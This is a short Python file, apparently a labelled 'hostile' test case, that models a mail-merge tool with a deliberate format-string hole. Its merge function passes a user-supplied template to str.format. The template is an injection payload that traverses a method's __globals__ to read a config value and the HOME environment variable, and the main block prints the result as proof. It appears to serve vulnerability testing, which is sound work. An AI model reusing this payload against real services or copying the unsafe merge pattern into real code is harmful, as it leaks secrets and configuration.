# family: hostile, blind round 59 (format strings: str.format template supplied as user data)
"""Mail-merge tool."""

USER_TEMPLATE = "Dear {user.name}, config={user.save.__globals__[CONFIG_PATH]} home={user.save.__globals__[_env][HOME]}"
CONFIG_PATH = "/etc/hostname"
_env = __import__("os").environ


class User:
    def __init__(self, name):
        self.name = name

    def save(self):
        """Persist the user."""
        return True


def merge(template: str, user: User) -> str:
    """Merge user fields into a template."""
    return template.format(user=user)


if __name__ == "__main__":
    print("proof:", merge(USER_TEMPLATE, User("Ann")))
